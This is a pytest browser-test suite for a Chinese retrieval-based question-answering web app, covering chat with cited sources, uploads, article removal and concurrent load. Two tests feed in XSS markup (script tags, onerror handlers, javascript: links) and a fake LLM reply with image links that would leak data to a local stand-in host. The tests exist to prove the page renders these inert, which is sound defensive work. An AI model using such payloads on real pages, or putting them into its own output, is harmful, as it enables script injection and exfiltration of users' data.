"""The page in a real browser: Debian's Chromium driven by Playwright, against a real server."""

from __future__ import annotations

import json
import statistics
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from .server import running_server

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync"]
pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    root = tmp_path_factory.mktemp("server")
    with running_server(root) as url:
        yield url + "/", root


def test_chromium_is_installed():
    # In CI a missing browser is a failure, never a skip: `make test` installs Debian's chromium.
    assert Path(CHROMIUM).exists(), "Debian's chromium is missing: run `make browser` (apt-get install chromium)"


def test_chat_sources_follow_up_and_upload_in_the_browser(server, tmp_path):
    from playwright.sync_api import sync_playwright

    url, root = server
    article = tmp_path / "quantum-town.md"
    article.write_text("# 量子小镇\n\n临港新片区建成了一座量子计算小镇,首批入驻企业有十二家。\n", encoding="utf-8")
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        page = browser.new_page(viewport={"width": 1400, "height": 950})
        page.goto(url)
        question = page.locator("#question textarea")
        question.fill("英伟达是谁创立的?")
        question.press("Enter")
        support = page.locator("#sources mark.support").first
        support.wait_for(timeout=30000)
        assert "黄仁勋创立了英伟达" in support.inner_text()
        page.locator("#chat").get_by_text("黄仁勋[1]").wait_for(timeout=10000)

        question.fill("他在哪一年创立了英伟达?")
        page.locator("#send").click()
        page.locator("#chat").get_by_text("1993年[1]").wait_for(timeout=30000)
        page.locator("#sources").get_by_text("检索的问题:黄仁勋在哪一年创立了英伟达?").wait_for(timeout=10000)
        page.screenshot(path=str(tmp_path / "chat.png"))

        # selecting the first answer brings its sources back; a source opens in its article
        page.locator("#chat [data-testid='bot']").first.click()
        page.wait_for_function("!document.querySelector('#sources').innerText.includes('检索的问题')", timeout=10000)
        page.get_by_text("在原文中查看来源").click()
        page.locator("#pick input").click()
        page.get_by_role("option").first.click()
        page.locator("#doc-view mark.support").wait_for(timeout=10000)
        assert "黄仁勋创立了英伟达" in page.locator("#doc-view mark.support").inner_text()
        assert "尾声" in page.locator("#doc-view").inner_text()  # the whole article, not just the passage

        # thumbs up is saved with the question, answer and sources
        page.locator("#chat button[aria-label='Like']").first.click()
        feedback = root / "data" / "feedback.jsonl"
        deadline = time.time() + 10
        # the server opens the file before it writes the line: wait for a whole line, not for the file
        def written() -> bool:
            return feedback.exists() and feedback.read_text(encoding="utf-8").endswith("\n")

        while not written() and time.time() < deadline:
            time.sleep(0.2)
        record = json.loads(feedback.read_text(encoding="utf-8").splitlines()[-1])
        assert record["liked"] is True and record["question"] == "英伟达是谁创立的?" and record["sources"]

        # an error is a message in the chat, not a stack trace or a spinner
        question.fill("?!。")
        question.press("Enter")
        page.locator("#chat").get_by_text("没有可检索的文字").wait_for(timeout=10000)
        assert "Traceback" not in page.locator("#chat").inner_text()

        page.get_by_role("tab", name="索引").click()
        page.locator("#upload input[type=file]").set_input_files(str(article))
        page.locator("#add").click()
        page.locator("#add-msg").get_by_text("已添加").wait_for(timeout=60000)
        assert "quantum-town.md" in page.locator("#add-msg").inner_text()
        assert "量子小镇" in page.locator("#status").inner_text()

        page.get_by_role("tab", name="问答").click()
        question.fill("量子计算小镇首批入驻了几家企业?")
        question.press("Enter")
        page.locator("#chat").get_by_text("十二家[1]").wait_for(timeout=30000)
        assert "量子计算小镇" in page.locator("#sources").inner_text()
        page.screenshot(path=str(tmp_path / "after-upload.png"))

        # an article with markup shows it as text and runs nothing
        evil = tmp_path / "markup.txt"
        evil.write_text("标记测试\n火星基地的代号是<script>window.__pwned=1</script><img src=x onerror=\"window.__pwned=2\">赤焰。\n",
                        encoding="utf-8")
        page.get_by_role("tab", name="索引").click()
        page.locator("#upload input[type=file]").set_input_files(str(evil))
        page.locator("#add").click()
        page.locator("#add-msg").get_by_text("markup.txt").wait_for(timeout=60000)
        page.get_by_role("tab", name="问答").click()
        question.fill("火星基地的代号是什么?")
        question.press("Enter")
        page.locator("#sources").get_by_text("<script>", exact=False).first.wait_for(timeout=30000)
        assert page.evaluate("window.__pwned") is None

        # an empty-looking upload is refused with a message and changes nothing
        empty = tmp_path / "empty.txt"
        empty.write_bytes(b"   ")
        page.get_by_role("tab", name="索引").click()
        page.locator("#upload input[type=file]").set_input_files(str(empty))
        page.locator("#add").click()
        page.locator("#add-msg").get_by_text("索引未改变").wait_for(timeout=30000)
        browser.close()
    assert (tmp_path / "chat.png").stat().st_size > 20000
    assert not (root / "corpus" / "articles" / "empty.txt").exists()


SEED_TITLE = "一座城市的长期主义:用产业生态撑起下一个技术支点"


def _choose(page, dropdown: str, label: str) -> None:
    """Tick one option of a multiselect dropdown and close its list."""
    page.locator(f"{dropdown} input").click()
    page.get_by_role("option", name=label).click()
    page.locator(f"{dropdown} input").blur()  # Escape leaves the list open; the next click would close it


def _options(page, dropdown: str) -> list[str]:
    page.locator(f"{dropdown} input").click()
    page.get_by_role("option").first.wait_for(timeout=5000)
    texts = page.get_by_role("option").all_inner_texts()
    page.locator(f"{dropdown} input").blur()
    return texts


def test_scoped_question_and_removing_an_article_in_the_browser(server, tmp_path):
    from playwright.sync_api import expect, sync_playwright

    url, root = server
    article = tmp_path / "deep-sea.md"
    article.write_text("# 深海观测站\n\n南海深海观测站部署了三百个传感器,由科考船负责维护。\n", encoding="utf-8")
    question_text = "深海观测站部署了多少个传感器?"
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        page = browser.new_page(viewport={"width": 1400, "height": 950})
        page.goto(url)
        page.get_by_role("tab", name="索引").click()
        page.locator("#upload input[type=file]").set_input_files(str(article))
        page.locator("#add").click()
        page.locator("#add-msg").get_by_text("已添加").wait_for(timeout=60000)
        expect(page.locator("#status")).to_contain_text("深海观测站")

        # unscoped, the new article answers; limited to the seed article, every source is the seed's
        page.get_by_role("tab", name="问答").click()
        question, cards = page.locator("#question textarea"), page.locator("#sources .src-card")
        question.fill(question_text)
        question.press("Enter")
        cards.first.wait_for(timeout=30000)
        assert "深海观测站" in page.locator("#sources").inner_text()
        page.locator("#clear").click()
        page.locator("#sources").get_by_text("提问后").wait_for(timeout=10000)
        _choose(page, "#scope", SEED_TITLE)
        question.fill(question_text)
        question.press("Enter")
        cards.first.wait_for(timeout=30000)
        docs = [card.get_attribute("data-doc") for card in cards.all()]  # an article's own ids start with its file name
        assert docs and all(d.split("#")[0] == "shanghai-ai.txt" for d in docs), docs
        assert "深海观测站" not in page.locator("#sources").inner_text()
        _choose(page, "#scope", "深海观测站")  # both chosen now: the removal must take one out of the scope

        # removing asks first; cancelling keeps the article
        page.get_by_role("tab", name="索引").click()
        _choose(page, "#remove-pick", "深海观测站")
        page.locator("#remove").click()
        page.locator("#remove-msg").get_by_text("确认删除 1 篇文章").wait_for(timeout=10000)
        page.locator("#remove-cancel").click()
        page.locator("#remove-msg").get_by_text("已取消").wait_for(timeout=10000)
        expect(page.locator("#remove-confirm")).to_be_hidden()
        assert (root / "corpus" / "articles" / "deep-sea.md").exists()
        assert "深海观测站" in page.locator("#status").inner_text()

        page.locator("#remove").click()
        page.locator("#remove-confirm").click()
        page.locator("#remove-msg").get_by_text("已删除").wait_for(timeout=60000)
        assert "deep-sea.md" in page.locator("#remove-msg").inner_text()
        expect(page.locator("#status")).not_to_contain_text("深海观测站")
        assert SEED_TITLE in page.locator("#status").inner_text()
        assert not (root / "corpus" / "articles" / "deep-sea.md").exists()
        assert not any("深海观测站" in o for o in _options(page, "#remove-pick"))
        page.get_by_role("tab", name="问答").click()
        expect(page.locator("#scope .token")).to_have_text([SEED_TITLE])  # the removed one left the scope
        options = _options(page, "#scope")
        assert any(SEED_TITLE in o for o in options) and not any("深海观测站" in o for o in options), options
        browser.close()


def test_twenty_concurrent_requests_through_the_api(server):
    from gradio_client import Client

    url, _ = server
    client = Client(url, verbose=False)
    questions = [("英伟达是谁创立的?", "黄仁勋"), ("苹果在哪一年IPO?", "1980年"), ("商汤大装置具备多少算力?", "1.2万PetaFLOPS"),
                 ("文章的作者是谁?", "忆海")] * 5

    def ask(item):
        question, expected = item
        started = time.perf_counter()
        result = client.predict(question, [], 5, api_name="/ask")
        return expected, result, (time.perf_counter() - started) * 1000

    with ThreadPoolExecutor(max_workers=20) as pool:
        results = list(pool.map(ask, questions))
    for expected, result, _ in results:
        assert expected in result["answer"], json.dumps(result, ensure_ascii=False)[:300]
    latencies = sorted(ms for *_, ms in results)
    print(f"\n20 concurrent /ask: median {statistics.median(latencies):.0f} ms, "
          f"p95 {latencies[int(0.95 * len(latencies)) - 1]:.0f} ms")


class _Sink:
    """A local HTTP server standing for an outside host: it records every request the page makes to it."""

    def __init__(self):
        import threading
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def test_model_output_is_inert_while_streaming_and_after(tmp_path_factory):
    """An LLM (or an article it quotes) answering with images, raw HTML and javascript: links loads nothing."""
    from playwright.sync_api import sync_playwright

    from .fake_llm import FakeLLM

    sink = _Sink()
    reply = (f"黄仁勋[1] [点我](javascript:window.__pwned=1) ![t]({sink.url}/md.png?leak=secret) "
             f"<img src=\"{sink.url}/raw.png\"> <iframe src=\"{sink.url}/frame\"></iframe> "
             f"<a href=\"{sink.url}/a\">链接</a> 结束。")
    root = tmp_path_factory.mktemp("inert")
    try:
        with FakeLLM() as llm:
            llm.reply, llm.delay = reply, 0.0
            env = {"ASSISTANT_LLM_BASE_URL": llm.base_url, "ASSISTANT_LLM_MODEL": "fake",
                   "ASSISTANT_LLM_API_KEY": "k", "ASSISTANT_ANSWERER": "llm"}
            with running_server(root, env=env) as url, sync_playwright() as p:
                import httpx

                assert "img-src 'self'" in httpx.get(url + "/").headers["content-security-policy"]
                browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
                page = browser.new_page()
                page.goto(url + "/")
                page.locator("#question textarea").fill("英伟达是谁创立的?")
                page.locator("#question textarea").press("Enter")
                elements = "#chat img[src*='127.0.0.1'], #chat iframe, #chat a[href^='javascript'], #chat a[href*='127.0.0.1']"
                seen = 0
                deadline = time.time() + 60
                while time.time() < deadline and "提问后" in page.locator("#sources").inner_text():
                    seen += page.locator(elements).count()  # sampled during streaming, until the sources come
                    time.sleep(0.05)
                time.sleep(1.0)
                text = page.locator("#chat").inner_text()
                assert "![t](" in text and "<img" in text  # shown as the text it is
                assert seen == 0 and page.locator(elements).count() == 0
                page.locator("#chat").get_by_text("点我").last.click()  # what a reader would click
                time.sleep(0.3)
                assert page.evaluate("window.__pwned") is None and page.url.startswith(url)
                browser.close()
    finally:
        sink.close()
    assert sink.hits == []
